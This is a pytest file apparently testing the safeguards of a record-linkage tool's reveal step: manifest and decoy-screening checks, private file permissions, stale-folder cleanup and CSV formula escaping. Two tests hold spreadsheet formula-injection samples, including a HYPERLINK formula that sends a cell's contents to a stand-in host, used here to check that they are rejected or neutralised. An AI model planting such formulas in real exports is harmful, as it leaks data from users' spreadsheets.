"""Reveal's guards: candidates made from the holder's own file, decoys screened (keyed claims),
private outputs, spreadsheet-safe CSV, stale work folders removed."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from linkmatch.cli import main
from linkmatch.encode import encode_file, remove_stale_work
from linkmatch.io import csv_safe, write_table
from linkmatch.pseudonymise.keys import generate_key_file, load_key
from linkmatch.synth import generate, write


@pytest.fixture(scope="module")
def job(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Two encoded files (the left one with decoys) and the unit's candidates."""
    d = tmp_path_factory.mktemp("reveal")
    paths = write(generate(seed=5, n_left=800, n_right=100), d / "in")
    key = d / "k.key"
    generate_key_file(key)
    log = ["--audit-log", str(d / "audit.jsonl")]
    assert main([*log, "encode", str(paths["left"]), "--key-file", str(key), "--out",
                 str(d / "l.lmenc"), "--decoys", "0.3"]) == 0
    assert main([*log, "encode", str(paths["right"]), "--key-file", str(key), "--out",
                 str(d / "r.lmenc")]) == 0
    assert main([*log, "match", str(d / "l.lmenc"), str(d / "r.lmenc"), "--out",
                 str(d / "c.csv"), "--threshold", "0.05"]) == 0
    return {"dir": d, "key": key, "left": paths["left"], "right": paths["right"],
            "l_enc": d / "l.lmenc", "r_enc": d / "r.lmenc", "cands": d / "c.csv"}


def _reveal(job: dict[str, Path], candidates: Path, side: str, out: Path,
            *extra: str) -> int:
    encoded = job["l_enc"] if side == "left" else job["r_enc"]
    return main(["--audit-log", str(job["dir"] / "audit.jsonl"), "reveal", str(candidates),
                 "--side", side, "--encoded", str(encoded), "--input", str(job[side]),
                 "--key-file", str(job["key"]), "--out", str(out), *extra])


def _copy(job: dict[str, Path], name: str, manifest: bool = True) -> Path:
    target = job["dir"] / name
    shutil.copy(job["cands"], target)
    if manifest:
        shutil.copy(job["cands"].with_name("c.csv.manifest.json"),
                    target.with_name(name + ".manifest.json"))
    return target


def test_reveal_refuses_candidates_without_manifest(job: dict[str, Path]) -> None:
    cands = _copy(job, "bare.csv", manifest=False)
    out = job["dir"] / "bare_rev.csv"
    assert _reveal(job, cands, "right", out) == 2
    assert not out.exists()
    # the explicit override reveals (the right holder takes responsibility for the left side)
    assert _reveal(job, cands, "right", out, "--allow-missing-manifest") == 0
    assert out.exists()


def test_forged_plain_screening_claim_refused(job: dict[str, Path]) -> None:
    cands = _copy(job, "forged.csv")
    path = cands.with_name("forged.csv.manifest.json")
    meta = json.loads(path.read_text())
    assert meta["decoy_rows"]["left"] > 0
    meta["screened"] = ["left"]  # what anyone could write into plain JSON
    path.write_text(json.dumps(meta))
    out = job["dir"] / "forged_rev.csv"
    assert _reveal(job, cands, "right", out) == 2
    assert not out.exists()


def test_decoy_count_cannot_be_zeroed_by_the_unit(job: dict[str, Path]) -> None:
    cands = _copy(job, "zeroed.csv")
    path = cands.with_name("zeroed.csv.manifest.json")
    meta = json.loads(path.read_text())
    meta["decoy_rows"]["left"] = 0
    path.write_text(json.dumps(meta))
    assert _reveal(job, cands, "right", job["dir"] / "zeroed_rev.csv") == 2


def test_pairs_added_back_after_screening_refused(job: dict[str, Path]) -> None:
    d = job["dir"]
    screened = d / "screened.csv"
    assert main(["--audit-log", str(d / "audit.jsonl"), "screen", str(job["cands"]),
                 "--side", "left", "--encoded", str(job["l_enc"]), "--key-file",
                 str(job["key"]), "--out", str(screened)]) == 0
    assert _reveal(job, screened, "right", d / "ok_rev.csv") == 0
    before, after = pd.read_csv(job["cands"], dtype=str), pd.read_csv(screened, dtype=str)
    assert len(after) < len(before)  # decoy pairs were removed
    # the unit puts the removed pairs back under the genuine claim
    tampered = d / "tampered.csv"
    before.to_csv(tampered, index=False)
    shutil.copy(screened.with_name("screened.csv.manifest.json"),
                tampered.with_name("tampered.csv.manifest.json"))
    assert _reveal(job, tampered, "right", d / "tampered_rev.csv") == 2
    assert not (d / "tampered_rev.csv").exists()


def test_reveal_refuses_candidates_made_from_another_encoding(job: dict[str, Path]) -> None:
    d = job["dir"]
    other = d / "r2.lmenc"  # the same input encoded again: another job salt and digest
    key = load_key(job["key"])
    encode_file(job["right"], other, key, workers=1)
    out = d / "other_rev.csv"
    code = main(["--audit-log", str(d / "audit.jsonl"), "reveal", str(job["cands"]),
                 "--side", "right", "--encoded", str(other), "--input", str(job["right"]),
                 "--key-file", str(job["key"]), "--out", str(out)])
    assert code == 2
    assert not out.exists()


def test_reveal_chain_and_outputs_are_private(job: dict[str, Path]) -> None:
    d = job["dir"]
    old = os.umask(0o022)
    try:
        assert _reveal(job, job["cands"], "left", d / "rev_left.csv") == 0
        assert _reveal(job, d / "rev_left.csv", "right", d / "rev_both.csv") == 0
        for name in ("rev_left.csv", "rev_left.csv.manifest.json", "rev_both.csv"):
            assert stat.S_IMODE((d / name).stat().st_mode) == 0o600, name
    finally:
        os.umask(old)
    both = pd.read_csv(d / "rev_both.csv", dtype=str)
    assert not both["left_id"].str.startswith("decoy-").any()


def test_outputs_are_created_0600_whatever_the_umask(job: dict[str, Path],
                                                     tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        key = load_key(job["key"])
        summary = encode_file(job["left"], tmp_path / "x.lmenc", key, workers=1)
        summary.report.write_rejects(tmp_path / "rejects.csv")
        write_table(pd.DataFrame({"a": ["1"]}), tmp_path / "t.parquet")
    finally:
        os.umask(old)
    for name in ("x.lmenc", "rejects.csv", "t.parquet"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600, name


def test_reveal_refuses_ids_that_are_not_pseudonyms(job: dict[str, Path]) -> None:
    cands = _copy(job, "formula.csv", manifest=False)
    frame = pd.read_csv(cands, dtype=str, keep_default_na=False)
    frame.loc[0, "right_id"] = '=HYPERLINK("http://x.example/?"&A1)'
    frame.to_csv(cands, index=False)
    out = job["dir"] / "formula_rev.csv"
    assert _reveal(job, cands, "right", out, "--allow-missing-manifest") == 1
    assert not out.exists()


def test_csv_outputs_neutralise_formula_cells(tmp_path: Path) -> None:
    frame = pd.DataFrame({"left_id": ["=1+2", "+cmd", "-2", "@SUM(A1)", "ab12", "\tx"],
                          "score": [0.5, -0.25, 0.1, 0.2, 0.3, 0.4]})
    write_table(frame, tmp_path / "c.csv")
    back = pd.read_csv(tmp_path / "c.csv", dtype={"left_id": str})
    assert back["left_id"].tolist()[:5] == ["'=1+2", "'+cmd", "'-2", "'@SUM(A1)", "ab12"]
    assert back["score"].tolist() == frame["score"].tolist()  # numbers stay numbers
    assert csv_safe(csv_safe(frame)).equals(csv_safe(frame))


def test_stale_bucket_folders_of_dead_runs_removed(job: dict[str, Path],
                                                   tmp_path: Path) -> None:
    out = tmp_path / "A.lmenc"
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True)
    dead_pid = int(dead.stdout)
    stale = tmp_path / f".A.lmenc.{dead_pid}-0123456789ab.buckets"
    stale.mkdir(mode=0o700)
    (stale / "00000000.arrow").write_bytes(b"pseudonymous rows")
    alive = tmp_path / f".A.lmenc.{os.getpid()}-0123456789ab.buckets"
    alive.mkdir(mode=0o700)
    encode_file(job["right"], out, load_key(job["key"]), workers=1)
    assert not stale.exists()
    assert alive.exists()  # a live run's folder is left alone
    assert remove_stale_work(out) == []
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".buckets")] == [alive.name]


def test_api_reveal_checks_the_candidates_manifest_when_given(job: dict[str, Path]) -> None:
    import linkmatch
    from linkmatch.decoys import screen_frame, with_screening
    from linkmatch.errors import ConfigError
    from linkmatch.io import read_manifest

    key = load_key(job["key"])
    result = linkmatch.match(job["l_enc"], job["r_enc"], threshold=0.05, workers=1)
    with pytest.raises(ConfigError, match="decoy"):
        linkmatch.reveal(result.candidates, side="right", encoded=job["r_enc"],
                         records=job["right"], key=key, candidates_manifest=result.manifest)
    screened, _ = screen_frame(result.candidates, side="left",
                               manifest=read_manifest(job["l_enc"]), key=key)
    claim = with_screening(result.manifest, screened, {"left"}, key)
    out = linkmatch.reveal(screened, side="right", encoded=job["r_enc"], records=job["right"],
                           key=key, candidates_manifest=claim)
    assert len(out) == len(screened)
